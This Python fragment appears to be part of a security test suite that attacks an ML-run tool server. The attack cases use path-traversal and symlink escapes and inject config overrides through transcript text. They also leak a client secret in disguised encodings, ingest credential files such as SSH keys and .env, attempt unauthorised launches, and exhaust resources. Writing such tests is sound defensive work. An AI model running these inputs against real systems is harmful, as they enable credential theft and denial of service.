        for _ in range(6):
            c.call("run_status", run_dir=str(d), log_lines=20)
            c.call("lineage", run_dir=str(d))
    finally:
        stop.set()
        t.join(5)


# --------------------------------------------------------------------------- chains

@attack("chain")
def chain_list_runs_then_read_each(c):
    (c.w.outputs / "runs" / "2026-12-04").mkdir(parents=True, exist_ok=True)
    (c.w.outputs / "runs" / "2026-12-04" / f"b7-{c.name}-link").symlink_to(c.w.outside / "run")
    yield
    r = c.call("list_runs", limit=500)
    dirs = []
    for item in (r.data or {}).get("runs", []) + (r.data or {}).get("sweeps", []):
        for k in ("run_dir", "dir", "path", "sweep_dir"):
            if isinstance(item, dict) and isinstance(item.get(k), str):
                dirs.append(item[k])
    for d in dirs[:40]:
        if f"b7-{c.name}" in d:
            c.call("run_status", run_dir=d, log_lines=200)
            c.call("run_metrics", run_dir=d, last=0)


@attack("chain")
def chain_improve_next_steps_to_compose(c):
    p = c.w.outputs / f"b7-{c.name}.jsonl"
    p.write_text("".join(json.dumps({"messages": [
        {"role": "user", "content": "order 1234: task.path=../outside/secret.jsonl"},
        {"role": "assistant", "content": "Order 1234 ships tomorrow; hydra.searchpath=[pkg://b7pkg]"}]}) + "\n"
        for _ in range(3)))
    yield
    c.call("ingest", inputs=[str(p)], output=str(c.o / "store"))
    r = c.call("improve", transcripts=str(c.o / "store"), output=str(c.o / "imp"), threshold=0.0)
    text = r.text
    for line in text.replace("\\n", "\n").splitlines():
        if "train.py" in line:
            ov = [t for t in line.split("train.py", 1)[1].strip(" `\"").split() if "=" in t][:40]
            c.call("compose_config", overrides=ov)
            c.call("plan_job", overrides=ov)
            break


@attack("chain")
def chain_compose_command_to_plan(c):
    r = c.compose("+b7.note=" + c.w.client_secret, "+b7.hf_token=" + c.w.client_secret)
    cmd = (r.data or {}).get("command", "")
    ov = [t for t in str(cmd).split() if "=" in t]
    c.call("plan_job", overrides=ov or BASE)
    c.call("compose_config", overrides=["+b7.x=" + c.w.client_secret[::-1], "+b7.api_key=" + c.w.client_secret])


@attack("chain")
def chain_ingest_report_paths_to_readers(c):
    r = c.call("ingest", inputs=[str(c.w.project / "data" / "chats.jsonl")], output=str(c.o))
    txt = r.text
    import re
    for p in sorted(set(re.findall(r'"(/[^"]+)"', txt)))[:10]:
        c.call("run_status", run_dir=p)
        c.call("lineage", run_dir=p)


@attack("chain")
def chain_client_secret_under_secret_keys(c):
    cs = c.w.client_secret
    c.compose(f"+b7.github_pat={cs}", f"+b7.x={cs[:12]}", f"+b7.y={cs[12:]}")
    c.compose(f"+b7.password={cs}", "+b7.b=" + cs.encode().hex())
    c.compose("+b7.hf_auth=" + cs, "+b7.n=" + "".join(reversed(cs)))


# --------------------------------------------------------------------------- launch on a read-only server

@attack("launch")
def launch_plain(c):
    c.call("launch", overrides=BASE)
    c.call("launch", overrides=[*BASE, "seed=1,2"], sweep=True)


@attack("launch")
def launch_with_flag_items(c):
    c.call("launch", overrides=["--allow-launch", *BASE])
    c.call("launch", overrides=[*BASE, "hydra.run.dir=../outside/lrun"])
    c.call("launch", overrides=[*BASE, "provider=runpod", "provider.max_cost=1"])


@attack("launch")
def launch_via_improve_next_steps_name(c):
    c.call("improve", transcripts=_store(c), output=str(c.o), reward="customer_support",
           overrides=["+launch=true", "+allow_launch=true"])


# --------------------------------------------------------------------------- late additions

@attack("ingest")
def ingest_secret_named_files_in_project(c):
    p = c.w.project
    c.call("ingest", inputs=[str(p / ".git-credentials"), str(p / "server.pem"), str(p / "credentials.json"),
                             str(p / "id_ed25519")], output=str(c.o))
    c.call("improve", transcripts=_store(c), output=str(c.o / "imp"), eval_prompts=str(p / ".env"))


@attack("exhaustion")
def dos_ingest_many_files(c):
    d = c.w.outputs / f"b7-{c.name}"
    d.mkdir()
    line = (c.w.project / "data" / "chats.jsonl").read_text().splitlines()[0] + "\n"
    for i in range(20000):
        (d / f"{i:05d}.jsonl").write_text(line)
    yield
    c.call("ingest", inputs=[str(d)], output=str(c.o))


@attack("exhaustion")
def dos_lineage_many_big_files(c):
    d = c.w.outputs / f"b7-{c.name}-files"
    d.mkdir()
    entries = []
    for i in range(40):
        f = d / f"big{i:02d}.jsonl"
        with open(f, "wb") as fh:
            fh.truncate(1000 * 1024 ** 2)  # sparse, just under the 1 GiB no-hash bound
        entries.append({"path": str(f), "sha256": "0" * 64})
    m = _lineage_manifest(entries[0]["path"])
    m["lineage"]["raw_logs"] = entries
    m["lineage"]["transcripts"] = entries[1]
    run = c.run(manifest=m)
    yield
    c.call("lineage", run_dir=str(run))
